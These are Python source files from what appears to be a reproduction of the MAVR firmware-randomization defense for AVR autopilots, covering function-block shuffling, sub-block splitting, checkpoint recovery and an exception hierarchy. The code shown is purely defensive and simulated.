    ) -> Tuple[FirmwareImage, Optional[Permutation]]:
        self.stats.last_layout_units = 0
        return image, None

    def observe_healthy(self, master) -> None:
        cpu = master.autopilot.cpu
        self._checkpoint = (
            cpu.data.read_block(0, DATA_SPACE_SIZE), cpu.pc, cpu.sreg.byte
        )
        self.stats.checkpoints += 1

    def check(self, master) -> bool:
        self.stats.integrity_checks += 1
        sp = master.autopilot.cpu.data.sp
        return sp < self._floor(master) or sp > RAMEND

    def recover(self, master) -> float:
        autopilot = master.autopilot
        self.stats.zero_reflash_recoveries += 1
        if self._checkpoint is None:
            # no healthy context captured yet: cold reset, still no reflash
            autopilot.reset()
            return 0.0
        data, pc, sreg = self._checkpoint
        cpu = autopilot.cpu
        cpu.data.write_block(0, data)  # includes SP at 0x5D/0x5E
        cpu.pc = pc
        cpu.sreg.byte = sreg
        cpu.halted = False
        autopilot.status = AutopilotStatus.RUNNING
        autopilot.crash = None
        # the restored task resumes mid-loop — it never walks the reset
        # vector, so drop any crash-induced stray boot pulses while
        # keeping the feed history (CPU cycles do not rewind)
        del autopilot.feed.boot_pulses[1:]
        latency_ms = (
            CTOMP_RESTORE_BASE_MS + DATA_SPACE_SIZE / CTOMP_RESTORE_BYTES_PER_MS
        )
        master.clock.advance_ms(latency_ms)
        return latency_ms

    def entropy_bits(self, image: FirmwareImage) -> float:
        return 0.0  # the layout is public; protection is recovery, not secrecy

    def _floor(self, master) -> int:
        if self._stack_floor is None:
            symbols = master.autopilot.debug_symbols
            top = SRAM_BASE
            for symbol in symbols.objects():
                if symbol.address >= DATA_SPACE_FLAG:
                    end = symbol.address - DATA_SPACE_FLAG + symbol.size
                    top = max(top, end)
            self._stack_floor = top
        return self._stack_floor


def create_backend(name: str) -> DefenseBackend:
    """Instantiate a registered backend by name."""
    factories = {
        "mavr": MavrBackend,
        "daedalus": DaedalusBackend,
        "ctomp": CtompBackend,
    }
    try:
        return factories[name]()
    except KeyError:
        raise DefenseError(
            f"unknown defense backend {name!r}; expected one of {DEFENSE_BACKENDS}"
        ) from None
