"""Function-block randomization (paper §V-B2).

The master processor reads the function list in ascending address order
and shuffles a copy to create a map of old addresses to new addresses.
Function blocks keep their sizes; only their order within ``.text``
changes, so the shuffled layout is a permutation of the original tiling.
"""

from __future__ import annotations

import math
import random
from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

from ..binfmt.image import FirmwareImage
from ..binfmt.symtab import Symbol, SymbolKind, SymbolTable
from ..errors import DefenseError


@dataclass(frozen=True)
class BlockMove:
    """One function block's relocation."""

    name: str
    old_address: int
    new_address: int
    size: int


@dataclass
class Permutation:
    """The full shuffle: per-block moves plus lookup helpers."""

    moves: List[BlockMove]

    def __post_init__(self) -> None:
        self._by_old: Dict[int, BlockMove] = {m.old_address: m for m in self.moves}
        self._old_sorted: List[BlockMove] = sorted(
            self.moves, key=lambda m: m.old_address
        )

    def new_address_of(self, old_byte_address: int) -> Optional[int]:
        """Translate any old .text byte address to its new location.

        Binary search for the containing block (the paper's trampoline
        handling: "the largest old symbol address that is less than or
        equal to the targeted address"), then apply the block offset.
        """
        blocks = self._old_sorted
        lo, hi = 0, len(blocks) - 1
        best: Optional[BlockMove] = None
        while lo <= hi:
            mid = (lo + hi) // 2
            if blocks[mid].old_address <= old_byte_address:
                best = blocks[mid]
                lo = mid + 1
            else:
                hi = mid - 1
        if best is None or old_byte_address >= best.old_address + best.size:
            return None
        return best.new_address + (old_byte_address - best.old_address)

    def move_for(self, name: str) -> BlockMove:
        for move in self.moves:
            if move.name == name:
                return move
        raise DefenseError(f"no move recorded for function {name}")

    @property
    def identity_fraction(self) -> float:
        """Share of blocks that landed at their old address."""
        if not self.moves:
            return 1.0
        same = sum(1 for m in self.moves if m.old_address == m.new_address)
        return same / len(self.moves)


def generate_permutation(
    image: FirmwareImage, rng: Optional[random.Random] = None
) -> Permutation:
    """Shuffle the image's function order into a new layout."""
    rng = rng if rng is not None else random.Random()
    functions = image.symbols.functions()
    if not functions:
        raise DefenseError("image has no function symbols to shuffle")
    order = list(functions)
    rng.shuffle(order)
    moves: List[BlockMove] = []
    cursor = image.text_start
    for symbol in order:
        moves.append(BlockMove(symbol.name, symbol.address, cursor, symbol.size))
        cursor += symbol.size
    if cursor != image.text_end:
        raise DefenseError(
            f"shuffled blocks cover [{image.text_start:#x}, {cursor:#x}), "
            f"expected to end at {image.text_end:#x}"
        )
    return moves_to_permutation(moves)


def moves_to_permutation(moves: List[BlockMove]) -> Permutation:
    return Permutation(moves)


def shuffled_symbol_table(image: FirmwareImage, permutation: Permutation) -> SymbolTable:
    """Symbol table describing the randomized layout."""
    table = SymbolTable()
    for move in permutation.moves:
        table.add(Symbol(move.name, move.new_address, move.size, SymbolKind.FUNC))
    for symbol in image.symbols.objects():
        table.add(symbol)
    return table


def permutation_count(function_count: int) -> int:
    """n! — the layouts an attacker must distinguish (§V-D)."""
    return math.factorial(function_count)


def layout_entropy_bits(function_count: int) -> float:
    """log2(n!) bits of layout entropy (§VIII-B)."""
    return math.lgamma(function_count + 1) / math.log(2)
