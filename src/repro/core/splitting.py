"""Sub-function block splitting (the DAEDALUS backend's granularity).

DAEDALUS-style diversity shuffles *basic blocks* rather than whole
functions.  On AVR the patcher constrains where a function may be cut:
a cut is only sound when no control transfer silently crosses it —

* the instruction before the cut must be an unconditional terminator
  (``ret``/``reti``/``jmp``/``rjmp``/``ijmp``) so execution never falls
  through the cut;
* that terminator must not itself be skippable (preceded by
  ``cpse``/``sbrc``/``sbrs``/``sbic``/``sbis``), which would re-create a
  fallthrough edge;
* no in-function *relative* transfer (``rcall``/``rjmp``/``brbs``/
  ``brbc``) may span the cut: relative displacements are only preserved
  when source and target move together, and conditional branches cannot
  be retargeted at all (7-bit range).

Cuts found under these rules keep every relative transfer inside its
sub-block, so the relocation index built at function granularity remains
valid: the code bytes are untouched (``RelocationIndex.matches`` keys on
the byte CRC), recorded cross-function sites are remapped through the
finer permutation exactly as before, and nothing new needs recording.
That is what lets the DAEDALUS backend re-diversify at sub-block
granularity through the same decode-free indexed fast path MAVR uses.
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from typing import List

from ..avr.decoder import decode_at
from ..avr.insn import Mnemonic
from ..binfmt.image import FirmwareImage
from ..binfmt.symtab import Symbol, SymbolKind, SymbolTable
from ..errors import DecodeError

M = Mnemonic

#: instructions with no fallthrough edge: a cut after one is reachable
#: only through an explicit (patchable) control transfer
_TERMINATORS = frozenset({M.RET, M.RETI, M.JMP, M.RJMP, M.IJMP})

#: skip instructions: the next instruction has a conditional fallthrough
#: *around* it, so a terminator right after a skip does not end the block
_SKIPS = frozenset({M.CPSE, M.SBRC, M.SBRS, M.SBIC, M.SBIS})

#: pc-relative transfers whose displacement must not cross a cut
_RELATIVE = frozenset({M.RCALL, M.RJMP, M.BRBS, M.BRBC})


@dataclass(frozen=True)
class SplitReport:
    """How much finer the sub-block tiling is than the function tiling."""

    functions: int
    blocks: int
    cut_points: int

    @property
    def refinement(self) -> float:
        return self.blocks / self.functions if self.functions else 1.0


def function_cut_offsets(image: FirmwareImage, symbol: Symbol) -> List[int]:
    """Safe cut byte-offsets strictly inside ``symbol``, ascending.

    Returns ``[]`` when the function does not decode cleanly — an opaque
    block stays a single unit rather than failing the whole split.
    """
    start, end = symbol.address, symbol.end
    candidates: List[int] = []
    spans: List[tuple] = []
    previous = None
    offset = start
    try:
        while offset + 1 < end:
            insn, size = decode_at(image.code, offset)
            mnemonic = insn.mnemonic
            if mnemonic in _RELATIVE:
                target = offset + 2 + insn.k * 2
                if start <= target < end:
                    spans.append((offset, target))
            if mnemonic in _TERMINATORS and previous not in _SKIPS:
                cut = offset + size
                if start < cut < end:
                    candidates.append(cut)
            previous = mnemonic
            offset += size
    except DecodeError:
        return []
    return [
        cut
        for cut in candidates
        if not any((source < cut) != (target < cut) for source, target in spans)
    ]


def split_symbol_table(image: FirmwareImage) -> SymbolTable:
    """The sub-block tiling: every function split at its safe cuts.

    The first part keeps the function's name (the entry symbol must stay
    resolvable); later parts are ``name.1``, ``name.2``, …  Object
    symbols pass through untouched — data never moves.
    """
    table = SymbolTable()
    for symbol in image.symbols.functions():
        cuts = function_cut_offsets(image, symbol)
        bounds = [symbol.address] + cuts + [symbol.end]
        for part, (lo, hi) in enumerate(zip(bounds, bounds[1:])):
            name = symbol.name if part == 0 else f"{symbol.name}.{part}"
            table.add(Symbol(name, lo, hi - lo, SymbolKind.FUNC))
    for symbol in image.symbols.objects():
        table.add(symbol)
    return table


def split_image_blocks(image: FirmwareImage) -> FirmwareImage:
    """Copy of ``image`` re-tiled at sub-block granularity.

    The code bytes are identical, so the relocation index carries over
    (unlike :meth:`FirmwareImage.with_code`, which must drop it) and the
    indexed patcher's fast path stays available for every later shuffle.
    """
    split = replace(image, symbols=split_symbol_table(image))
    split.validate()
    return split


def split_report(image: FirmwareImage) -> SplitReport:
    functions = image.function_count()
    blocks = split_symbol_table(image).functions()
    return SplitReport(
        functions=functions,
        blocks=len(blocks),
        cut_points=len(blocks) - functions,
    )
