"""Exception hierarchy shared across the MAVR reproduction.

Every package raises subclasses of :class:`ReproError` so callers can catch
one base type at API boundaries while tests assert on precise subclasses.
"""

from __future__ import annotations


class ReproError(Exception):
    """Base class for all errors raised by this library."""


class AvrError(ReproError):
    """Base class for AVR core simulator errors."""


class DecodeError(AvrError):
    """An opcode word could not be decoded into a known instruction."""

    def __init__(self, word: int, address: int) -> None:
        self.word = word
        self.address = address
        super().__init__(
            f"cannot decode opcode 0x{word:04x} at byte address 0x{address:05x}"
        )


class EncodeError(AvrError):
    """An instruction could not be encoded (bad operands or range)."""


class MemoryAccessError(AvrError):
    """Out-of-range or illegal memory access in the simulated core."""


class IllegalExecutionError(AvrError):
    """The core tried to execute from an illegal location (crash signal).

    This models the ``executing garbage`` outcome the paper describes after a
    failed ROP attempt: the program counter walks into data it cannot decode
    or leaves the flash image.
    """


class CpuFault(AvrError):
    """A fault raised while executing (wraps the triggering condition)."""

    def __init__(self, message: str, pc: int, cycles: int) -> None:
        self.pc = pc
        self.cycles = cycles
        super().__init__(f"{message} (pc=0x{pc:05x}, cycle={cycles})")


class LockstepDivergenceError(AvrError):
    """Two execution engines disagreed on architectural state.

    Raised by the differential harness in :mod:`repro.avr.trace`; if this
    ever fires outside a test, an engine optimisation broke the
    bit-for-bit equivalence contract (docs/PERFORMANCE.md)."""


class AsmError(ReproError):
    """Base class for assembler / linker errors."""


class AsmSyntaxError(AsmError):
    """Malformed assembly source."""

    def __init__(self, message: str, line: int) -> None:
        self.line = line
        super().__init__(f"line {line}: {message}")


class LinkError(AsmError):
    """Symbol resolution or layout failure while linking."""


class BinfmtError(ReproError):
    """Malformed binary container (HEX / image / symbol table)."""


class MavlinkError(ReproError):
    """MAVLink framing or checksum failure."""


class AttackError(ReproError):
    """An attack could not be constructed (e.g. required gadget missing)."""


class GadgetNotFoundError(AttackError):
    """No gadget matching the requested classification exists in the image."""


class DefenseError(ReproError):
    """MAVR defense pipeline failure."""


class PatchError(DefenseError):
    """A call/jump/function-pointer could not be retargeted."""


class FuseViolationError(DefenseError):
    """An access forbidden by the readout-protection fuse was attempted."""


class FlashWearError(DefenseError):
    """The flash programming-cycle budget was exhausted."""


class HardwareError(ReproError):
    """Simulated board-level failure (wiring, bootloader protocol)."""


class TelemetryError(ReproError):
    """Telemetry misuse: a counter decrement, a metric kind clash, or a
    malformed instrument registration.

    Counters rejecting decrements is a feature, not a convenience: a
    stats field that silently went backwards (e.g. a reset in the reflash
    accounting) is exactly the class of bug the monotonic contract turns
    into a loud failure."""
